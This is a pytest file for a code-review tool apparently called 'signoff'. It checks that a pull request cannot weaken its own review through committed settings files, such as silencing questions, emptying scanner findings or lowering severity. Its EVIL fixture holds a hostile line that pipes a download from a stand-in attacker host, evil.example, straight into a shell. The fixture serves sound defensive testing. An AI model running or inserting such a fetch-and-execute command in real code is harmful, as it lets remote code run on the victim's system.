"""Review settings that reduce what is shown come from the branch the change targets, never the change.

The change under review is the attacker's: if its own ``.signoff/`` files were in effect, it could
override a question so it never fires, raise ``[ai] min_confidence`` so its AI lines go unmarked, empty
``[findings] sarif`` so scanner findings disappear, remap findings away from their questions, or lower a
question's severity so the gate lets a failed answer through. Each test commits the hostile setting in the
change (checked out, as CI checks out a pull request) and asserts the target branch's setting holds.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from signoff.cli import main
from tests.helpers import commit_files, git, make_repo, write

EVIL = 'import os\nos.system("curl https://evil.example | sh")\n'
FINDINGS = Path(__file__).parent / "fixtures" / "findings"

QUIET_OVERRIDE = """\
id = "code-security"
[[questions]]
id = "code.command-injection"
[questions.triggers]
added = ['\\bNEVER_FIRES_[0-9]{40}\\b']
"""


def _scan_json(repo: Path, *argv: str, capsys: pytest.CaptureFixture[str]) -> dict:
    code = main(["-C", str(repo), "scan", *argv, "--format", "json"])
    out = capsys.readouterr()
    assert code == 0, out.err
    return json.loads(out.out)


def _triggered(doc: dict) -> set[str]:
    return {q["id"] for q in doc["questions"]["triggered"]}


def _topic(tmp_path: Path, base: dict, topic: dict, message: str = "topic change") -> Path:
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"app.py": "x = 1\n", **base}, "base")
    git(repo, "checkout", "-q", "-b", "topic")
    commit_files(repo, topic, message)
    return repo


def test_change_cannot_override_a_question_away(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = _topic(tmp_path, {}, {"app.py": EVIL, ".signoff/checklists/quiet.toml": QUIET_OVERRIDE})
    doc = _scan_json(repo, "main..topic", "--no-ai", capsys=capsys)
    assert "code.command-injection" in _triggered(doc)
    # the override is not in effect, so the record's manifest does not claim it
    assert not any(o.get("path", "").endswith("quiet.toml") for o in doc["questions"].get("overrides", []))


def test_target_branch_overrides_are_in_effect(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = _topic(tmp_path, {".signoff/checklists/quiet.toml": QUIET_OVERRIDE}, {"app.py": EVIL})
    doc = _scan_json(repo, "main..topic", "--no-ai", capsys=capsys)
    assert "code.command-injection" not in _triggered(doc)


def test_uncommitted_override_in_the_work_tree_is_not_in_effect(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"app.py": "x = 1\n"}, "base")
    write(repo, {"app.py": EVIL, ".signoff/checklists/quiet.toml": QUIET_OVERRIDE})
    doc = _scan_json(repo, "--worktree", "--untracked", "--no-ai", capsys=capsys)
    assert "code.command-injection" in _triggered(doc)


def test_change_cannot_raise_ai_min_confidence(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    message = "Add helper\n\n🤖 Generated with [Claude Code](https://claude.com/claude-code)\n"
    config = '[ai]\nmin_confidence = "high"\n'
    repo = _topic(tmp_path, {}, {"app.py": EVIL, ".signoff/config.toml": config}, message)
    doc = _scan_json(repo, "main..topic", capsys=capsys)
    assert doc["ai"]["summary"]["ai_commits"] == 1
    assert doc["ai"]["summary"]["ai"] >= 2
    # ...while the same setting on the target branch is honoured
    repo2 = _topic(tmp_path / "2", {".signoff/config.toml": config}, {"app.py": EVIL}, message)
    assert _scan_json(repo2, "main..topic", capsys=capsys)["ai"]["summary"]["ai_commits"] == 0


def _shop(tmp_path: Path, base: dict, topic: dict) -> Path:
    shop = FINDINGS / "shop"
    files = {str(p.relative_to(shop)): p.read_text() for p in shop.rglob("*") if p.is_file()}
    repo = make_repo(tmp_path / "shop")
    commit_files(repo, {"app/settings.py": files["app/settings.py"], **base}, "base")
    git(repo, "checkout", "-q", "-b", "topic")
    commit_files(repo, {**files, **topic}, "feature")
    shutil.copy(FINDINGS / "bandit.sarif", repo / "bandit.sarif")  # the CI scanner's output
    return repo


def test_change_cannot_empty_the_sarif_list(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    listed = '[findings]\nsarif = ["bandit.sarif"]\n'
    repo = _shop(
        tmp_path, {".signoff/config.toml": listed}, {".signoff/config.toml": "[findings]\nsarif = []\n"}
    )
    doc = _scan_json(repo, "main..topic", "--no-ai", capsys=capsys)
    assert any(f["rule"] == "B608" for f in (doc.get("findings") or {}).get("items", []))


def test_change_cannot_remap_findings_away(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    remap = '[rules]\n"bandit:B608" = "input.validate"\n'
    repo = _shop(tmp_path, {}, {".signoff/findings-map.toml": remap})
    doc = _scan_json(repo, "main..topic", "--no-ai", "--findings", str(repo / "bandit.sarif"), capsys=capsys)
    b608 = next(f for f in doc["findings"]["items"] if f["rule"] == "B608")
    assert b608["question"] == "db.parameterized-queries"


def test_gate_reads_question_severity_from_the_base(tmp_path: Path) -> None:
    """A failed answer is judged by the checklists committed on the target (the gate reads them at the
    target's tip, signoff.signing.trustroot): the change cannot lower the question's severity to slip
    under ``block_severity``. End to end: tests/test_trust_votes.py."""
    from signoff.audit.votes import target_checklists
    from signoff.git.runner import open_repo
    from signoff.signing.trustroot import load_trust_root

    lower = 'id = "code-security"\n[[questions]]\nid = "code.command-injection"\nseverity = "low"\n'
    repo = _topic(tmp_path, {}, {"app.py": EVIL, ".signoff/checklists/lower.toml": lower})
    g = open_repo(repo)

    def severity(rev: str) -> str:
        commit = git(repo, "rev-parse", rev).strip()
        cs = target_checklists(load_trust_root(g, commit, rev), [])
        return next(q.severity for q in cs.questions if q.id == "code.command-injection")

    assert severity("main") == "critical"
    assert severity("topic") == "low"


# -- at the target's tip, not the merge-base (helper "harden") --------------------------------------------


def _old_branch_point(tmp_path: Path, loose: dict) -> Path:
    """main once had ``loose`` settings and has since removed them; ``topic`` branched before that."""
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"app.py": "x = 1\n", **loose}, "base, with loose review settings")
    git(repo, "checkout", "-q", "-b", "topic")
    commit_files(repo, {"app.py": EVIL}, "topic change")
    git(repo, "checkout", "-q", "main")
    commit_files(repo, dict.fromkeys(loose), "tighten the review settings")
    git(repo, "checkout", "-q", "topic")
    return repo


@pytest.mark.parametrize("spec", [["main...topic"], [], ["--base", "main"]])
def test_an_old_branch_point_does_not_bring_back_an_old_override(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], spec: list[str]
) -> None:
    repo = _old_branch_point(tmp_path, {".signoff/checklists/quiet.toml": QUIET_OVERRIDE})
    doc = _scan_json(repo, *spec, "--no-ai", capsys=capsys)
    assert "code.command-injection" in _triggered(doc)


def test_an_old_branch_point_does_not_bring_back_an_old_size_limit(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = _old_branch_point(tmp_path, {".signoff/config.toml": "[diff]\nmax_file_bytes = 1\n"})
    doc = _scan_json(repo, "main...topic", "--no-ai", capsys=capsys)
    assert "code.command-injection" in _triggered(doc)
    assert not any(f.get("too_large") for f in doc["files"]), doc["files"]
